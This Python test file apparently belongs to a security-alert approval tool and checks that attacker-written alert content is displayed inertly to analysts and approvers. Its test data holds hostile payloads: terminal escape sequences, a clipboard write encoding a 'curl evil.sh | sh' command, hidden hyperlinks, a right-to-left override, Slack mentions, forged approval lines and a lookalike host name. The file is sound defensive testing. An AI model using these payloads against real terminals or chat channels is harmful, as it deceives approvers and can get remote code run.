"""QA10: an attacker who writes alert content (titles, host names, user names) and nothing else.

Real inputs through the real ingest (`ingest_path`, OCSF) into real cases on the real dev server,
then what an analyst or approver reads: `signoff show`, `signoff explain`, the Slack approval
message, the Temporal UI's summary. What they read must be what the case holds: no terminal control
sequences, no forged lines, no mentions or spoofed links, no reversed text; the history keeps the
raw content (evidence). An alert too big for one Temporal payload is kept and marked, and never
stops the ingest of the alerts after it.
"""

from __future__ import annotations

import json
import uuid
from pathlib import Path
from typing import Any

import pytest
from temporalio.api.enums.v1 import EventType
from temporalio.testing import WorkflowEnvironment

from policies.loader import load_policy
from signoff.alertstore import AlertStore
from signoff.chat.messages import CaseState, case_message, step_message
from signoff.display import SafeConsole, clean, mrkdwn, mrkdwn_code, terminal
from signoff.explain import explanation_from_history, render_explanation
from signoff.history import decode_history
from signoff.ingest import ingest_path
from signoff.models import Alert, AlertBatch, CaseStatus, CaseView, CloseRequest, Entity, Verdict
from signoff.payload_budget import (
    ALERT_BUDGET,
    OTHER_RULES,
    OVERSIZE_ATTRIBUTE,
    SIGNAL_BUDGET,
    carried,
    rule_counts,
)
from signoff.worker import build_worker
from tests.casekit import wait_for

ESC = "\x1b"
# Clears the line, writes the clipboard (OSC 52), a hyperlink whose text hides its target (OSC 8),
# a right-to-left override ("gnp.exe" read as "exe.png"), rich markup, Slack mentions and a spoofed link.
TITLE = (f"Invoice{ESC}[2K\r{ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g={ESC}\\ {ESC}]8;;https://evil.example/{ESC}\\open"
         f"{ESC}]8;;{ESC}\\ \u202egnp.exe\u202c [bold red]URGENT[/] <!channel> <@U0ADMIN> "
         "<https://evil.example|https://bank.example>")
FORGED = "\n:white_check_mark: *Approved* by alice (1 of 1); the step is executed"


def _finding(uid: str, title: str, host: str, *, user: str | None = None, time_ms: int = 1764400000000,
             observables: list[dict[str, Any]] | None = None) -> dict[str, Any]:
    f: dict[str, Any] = {
        "class_uid": 2004, "class_name": "Detection Finding", "category_uid": 2, "activity_id": 1, "type_uid": 200401,
        "severity_id": 4, "time": time_ms, "metadata": {"version": "1.3.0", "product": {"name": "EDR", "vendor_name": "x"}},
        "finding_info": {"uid": uid, "title": title, "analytic": {"uid": "R-qa10", "name": "qa10 rule", "type_id": 1, "type": "Rule"},
                         "attacks": [{"tactic": {"name": "Execution"}}]},
        "device": {"hostname": host}, "observables": observables or []}
    if user is not None:
        f["actor"] = {"user": {"name": user}}
    return f


def _write(path: Path, findings: list[dict[str, Any]]) -> Path:
    path.write_text("".join(json.dumps(f) + "\n" for f in findings))
    return path


def _raw_titles(history: Any, converter: Any) -> list[str]:
    return [a.title for a in _signalled(history, converter)]


def _signalled(history: Any, converter: Any) -> list[Alert]:
    out: list[Alert] = []
    for event in history.events:
        if event.event_type != EventType.EVENT_TYPE_WORKFLOW_EXECUTION_SIGNALED:
            continue
        attrs = event.workflow_execution_signaled_event_attributes
        if attrs.signal_name == "add_alerts":
            batch = converter.payload_converter.from_payloads(attrs.input.payloads, [AlertBatch])[0]
            out.extend(batch.alerts)
    return out


# ---------------------------------------------------------------- the display helper


def test_clean_shows_every_hidden_or_controlling_character_as_an_escape() -> None:
    raw = f"a{ESC}[31m\r\x08\x00\x07\x9b\u202e\u2066\u200b\ufeff\u2028\ud800b"
    assert clean(raw) == "a\\x1b[31m\\r\\x08\\x00\\x07\\x9b\\u202e\\u2066\\u200b\\ufeff\\u2028\\ud800b"
    assert clean("line one\nline two\tx") == "line one\\nline two\\tx"
    assert clean("line one\nline two\tx", one_line=False) == "line one\nline two\tx"
    assert clean("héllo 中文 😀 dc01.corp") == "héllo 中文 😀 dc01.corp"  # ordinary text is untouched
    assert clean("x" * 500, limit=100) == "x" * 100 + "… (+400 chars)"
    assert terminal("[bold]x\ny") == "\\[bold]x\\ny"
    assert mrkdwn("<!channel> <@U1> <https://a|b> & *Approved*\nby") == \
        "&lt;!channel&gt; &lt;@U1&gt; &lt;https://a|b&gt; &amp; *Approved*\\nby"
    assert mrkdwn_code("dc01` on host `dc02") == "dc01' on host 'dc02"


def test_the_cli_console_never_sends_a_control_sequence_to_the_terminal() -> None:
    import io

    buffer = io.StringIO()
    console = SafeConsole(file=buffer, force_terminal=True, width=200, highlight=False)
    console.print(f"[bold]title[/] {ESC}]52;c;ZXZpbA=={ESC}\\ {ESC}[8mhidden {ESC}[0m \u202eexe.png")
    shown = buffer.getvalue()
    # The console's own styling is there; nothing from the text itself is.
    assert "\x1b]52" not in shown and "\x1b[8m" not in shown and "\u202e" not in shown
    assert "\\x1b]52;c;ZXZpbA==\\x1b\\ \\x1b[8mhidden" in shown and "\\u202eexe.png" in shown


# ---------------------------------------------------------------- the payload budget


def _alert(uid: str, n_entities: int = 1, value_len: int = 10, rule: str = "r") -> Alert:
    from datetime import UTC, datetime

    ents = tuple(Entity(type="host", value=f"h{i}-" + "a" * value_len) for i in range(n_entities))
    return Alert(uid=uid, source="ocsf", time=datetime(2026, 1, 1, tzinfo=UTC), title="t", rule=rule, entities=ents)


def test_a_signal_carries_alerts_within_the_budget_and_marks_a_cut_alert() -> None:
    small = [_alert(f"s{i}") for i in range(3)]
    assert carried(small, 50) == tuple(small)  # ordinary alerts are carried as they are
    big = [_alert(f"b{i}", n_entities=1000, value_len=850) for i in range(3)]
    sample = carried(big, 50)
    assert len(sample) >= 1 and sum(len(a.model_dump_json()) for a in sample) <= SIGNAL_BUDGET
    first = sample[0]
    assert len(first.model_dump_json()) <= ALERT_BUDGET
    assert first.entities == big[0].entities[:len(first.entities)] and first.entities
    assert "of its 1000 entities carried" in first.attributes[OVERSIZE_ATTRIBUTE]


def test_thousands_of_long_rule_names_are_counted_together_and_the_totals_add_up() -> None:
    alerts = [_alert(f"a{i}", rule=f"{i:05d}-" + "r" * 1000) for i in range(1000)]
    sample = alerts[:50]
    counts = rule_counts(alerts, sample)
    assert len(json.dumps(counts)) < 250_000
    # What the case adds up (workflows/case.py add_alerts): sampled alerts by their rule, the rest by count.
    total = len(sample) + sum(max(c - sum(1 for a in sample if a.rule == r), 0) for r, c in counts.items())
    assert total == 1000 and counts[OTHER_RULES] > 0


# ---------------------------------------------------------------- end to end on the dev server


async def test_hostile_alert_content_is_shown_as_text_to_analysts_and_approvers(
        dev_env: WorkflowEnvironment, task_queue: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from signoff.cli import cases as cli_cases

    client = dev_env.client
    tag = uuid.uuid4().hex[:8]
    host = f"dc01-{tag}{ESC}[8m-not-this-one{ESC}[0m\u200b"  # shown as "dc01-..." with the rest concealed
    user = f"bob-{tag}`\n*Touches* host `dc02`"  # a forged "Touches" line under the real target
    data = _write(tmp_path / "hostile.jsonl", [_finding(f"qa10-{tag}", FORGED.lstrip("\n") + " " + TITLE, host,
                                                        user=user)])
    store = AlertStore(tmp_path / "alerts.db")
    async with build_worker(client, task_queue):
        summary = await ingest_path(client, data, "ocsf", store=store, task_queue=task_queue)
        assert (summary.accepted, summary.rejected, summary.cases_opened) == (1, 0, 1)
        (case_id,) = summary.case_ids
        handle = client.get_workflow_handle(case_id)
        view = await wait_for(handle, lambda v: v.status == CaseStatus.awaiting_approval, "awaiting approval",
                              attempts=1200)

        # `signoff show`: nothing from the alert reaches the terminal as a control sequence or a new line.
        cli_cases.print_case(view)
        shown = capsys.readouterr().out
        assert ESC not in shown and "\u202e" not in shown and "\u200b" not in shown and "\r" not in shown
        assert f"dc01-{tag}\\x1b[8m-not-this-one\\x1b[0m\\u200b" in shown
        assert not any(line.lstrip("│ ").startswith("*Touches*") for line in shown.splitlines()), shown
        assert not any(line.startswith(":white_check_mark:") for line in shown.splitlines()), shown

        # `signoff explain`, from the history.
        history = await handle.fetch_history()
        text = render_explanation(explanation_from_history(await decode_history(history, client.data_converter,
                                                                                source="live")))
        assert ESC not in text and "\u202e" not in text
        assert not any(line.startswith(":white_check_mark:") for line in text.splitlines())
        assert f"bob-{tag}`\\n*Touches* host `dc02`" in text

        # The Slack approval message for each waiting step: one *Touches* line, the real target, no mention,
        # no spoofed link, no forged approval line.
        policy = load_policy()
        for step in [s for s in view.steps if s.quorum and s.state.value == "awaiting_approval"]:
            message, blocks = step_message(view, step, policy)
            lines = message.splitlines()
            assert len([line for line in lines if line.startswith("*Touches*")]) == 1, message
            assert not any(line.startswith(":white_check_mark:") for line in lines), message
            for bad in ("<!channel>", "<@U0ADMIN>", "<https://evil.example|", ESC, "\u202e"):
                assert bad not in message, (bad, message)
            assert blocks[0]["text"]["text"] == message
        case_text, _ = case_message(CaseState(view=view), policy)
        assert "<!channel>" not in case_text and ESC not in case_text

        # The Temporal UI's summary of the case.
        summary_text = await (await handle.describe()).static_summary()
        assert summary_text is not None and ESC not in summary_text and "\u202e" not in summary_text

        # The history keeps the alert as it came: evidence, byte for byte.
        titles = _raw_titles(history, client.data_converter)
        assert titles == [FORGED.lstrip("\n") + " " + TITLE]
        assert {e.value for e in _signalled(history, client.data_converter)[0].entities} >= {host.lower(), user}
        await handle.terminate("test done")
    store.close()


async def test_oversize_alerts_are_kept_and_marked_and_never_stop_the_ingest_or_wedge_the_case(
        dev_env: WorkflowEnvironment, task_queue: str, tmp_path: Path) -> None:
    """QA10: three ~900 KB alerts of one host (1,000 observables each, every line under the 1 MiB
    limit) made the case's signal 2.7 MB: Temporal refused it and the ingest stopped there, so the
    ordinary alert after them (and, through a SIEM pull, every later alert) was never delivered.
    Fifteen of them over five ingests made the case's view 4 MB: its `status` query failed (`signoff
    show`, `approve`, the chat bridge) and its verdict could never complete the workflow."""
    client = dev_env.client
    tag = uuid.uuid4().hex[:8]
    observables = [{"type_id": 1, "name": "n", "type": "Hostname", "value": f"h{i}-{tag}-" + "A" * 850}
                   for i in range(1000)]
    store = AlertStore(tmp_path / "alerts.db")
    async with build_worker(client, task_queue):
        for run in range(5):
            big = [_finding(f"big-{tag}-{run}-{k}", f"big {run}.{k}", f"bighost-{tag}", observables=observables,
                            time_ms=1764400000000 + 10 * run + k) for k in range(3)]
            small = [_finding(f"small-{tag}-{run}", "ordinary alert", f"otherhost-{tag}-{run}",
                              time_ms=1764400001000)]
            data = _write(tmp_path / f"big{run}.jsonl", [*big, *small])
            summary = await ingest_path(client, data, "ocsf", store=store, task_queue=task_queue)
            assert (summary.accepted, summary.rejected) == (4, 0)
        uids = [f"big-{tag}-{r}-{k}" for r in range(5) for k in range(3)] + [f"small-{tag}-{r}" for r in range(5)]
        held = store.cases_of(uids)
        assert len(held) == 20  # every alert is in the store, with its case
        assert len({held[u] for u in uids if u.startswith("big-")}) == 1
        handle = client.get_workflow_handle(held[f"big-{tag}-0-0"])
        view: CaseView = await wait_for(handle, lambda v: v.status == CaseStatus.awaiting_approval and
                                        v.alert_count == 15, "15 alerts, waiting", attempts=1200)
        assert ("host", f"bighost-{tag}") in {(e.type, e.value) for e in view.entities}  # still the playbook's target
        assert any(s.target.id == f"bighost-{tag}" for s in view.steps)
        assert all(OVERSIZE_ATTRIBUTE in a.attributes for a in view.timeline)
        assert "of its 1001 entities carried into the case" in view.timeline[0].attributes[OVERSIZE_ATTRIBUTE]
        # The verdict completes the case (its result is the view).
        await handle.execute_update("close", CloseRequest(analyst="carol", verdict=Verdict.false_positive,
                                                          reason="load test"))
        final = CaseView.model_validate(await handle.result())
        assert final.status == CaseStatus.closed and final.alert_count == 15
        for r in range(5):
            small_view = await wait_for(client.get_workflow_handle(held[f"small-{tag}-{r}"]),
                                        lambda v: v.status != CaseStatus.triage, "triaged", attempts=1200)
            assert small_view.alert_count == 1
            await client.get_workflow_handle(held[f"small-{tag}-{r}"]).terminate("test done")
    store.close()


async def test_a_lookalike_host_is_shown_as_what_it_is_to_the_approver(
        dev_env: WorkflowEnvironment, task_queue: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """A host named "dс01" with a Cyrillic "с" read as dc01 in the approval message and `signoff show`:
    an approver isolating it believed dc01 contained (and `signoff contained` said so)."""
    from signoff.cli import cases as cli_cases

    client = dev_env.client
    tag = uuid.uuid4().hex[:8]
    lookalike = f"d\u044101-{tag}"
    data = _write(tmp_path / "lookalike.jsonl", [_finding(f"qa10-look-{tag}", "Beaconing", lookalike)])
    store = AlertStore(tmp_path / "alerts.db")
    async with build_worker(client, task_queue):
        summary = await ingest_path(client, data, "ocsf", store=store, task_queue=task_queue)
        (case_id,) = summary.case_ids
        handle = client.get_workflow_handle(case_id)
        view = await wait_for(handle, lambda v: v.status == CaseStatus.awaiting_approval, "awaiting approval",
                              attempts=1200)
        [isolate] = [s for s in view.steps if s.action == "isolate_host"]
        assert isolate.target.id == lookalike  # the case acts on exactly what the alert named
        message, _ = step_message(view, isolate, load_policy())
        assert f"`d\\u044101-{tag}`" in message and lookalike not in message
        cli_cases.print_case(view)
        assert f"host d\\u044101-{tag}" in capsys.readouterr().out
        await handle.terminate("test done")
    store.close()
